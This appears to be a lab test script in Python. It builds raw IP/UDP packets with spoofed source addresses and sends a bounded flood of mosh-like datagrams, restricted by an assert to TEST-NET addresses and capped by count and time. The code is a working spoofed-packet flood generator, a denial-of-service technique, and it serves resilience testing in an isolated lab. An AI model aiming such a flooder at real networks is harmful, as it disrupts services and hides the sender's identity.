#!/usr/bin/env python3
"""A bounded flood of raw (unframed, first byte < 0x80) mosh-like UDP datagrams with spoofed
source addresses, sent with a raw socket (root). Only for the namespace lab.

usage: rawflood.py DST_IP DST_PORT COUNT MAX_SECONDS SRC_IP [SRC_IP ...]
Each datagram takes the next source IP in turn and a random source port. Stops after COUNT
datagrams or MAX_SECONDS, whichever comes first; prints how many it sent."""
import ipaddress, os, random, socket, struct, sys, time

dst, dport, count, max_s = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
srcs = sys.argv[5:]
for a in [dst] + srcs:  # never anything but TEST-NET addresses
    ip = ipaddress.ip_address(a)
    assert any(ip in ipaddress.ip_network(n) for n in ("198.51.100.0/24", "203.0.113.0/24", "192.0.2.0/24")), a
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
payload = bytes([0x00]) + os.urandom(47)

def csum(b):
    if len(b) % 2:
        b += b"\0"
    t = sum(struct.unpack(f"!{len(b)//2}H", b))
    t = (t >> 16) + (t & 0xFFFF)
    t += t >> 16
    return ~t & 0xFFFF

sent, deadline = 0, time.monotonic() + max_s
while sent < count and time.monotonic() < deadline:
    src = srcs[sent % len(srcs)]
    sport = random.randint(1024, 65535)
    ulen = 8 + len(payload)
    udp = struct.pack("!HHHH", sport, dport, ulen, 0) + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, ulen)
    udp = udp[:6] + struct.pack("!H", csum(pseudo + udp) or 0xFFFF) + udp[8:]
    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, sent & 0xFFFF, 0, 64, 17, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    try:
        s.sendto(iph + udp, (dst, 0))
        sent += 1
    except (BlockingIOError, OSError):
        time.sleep(0.001)
print(sent)
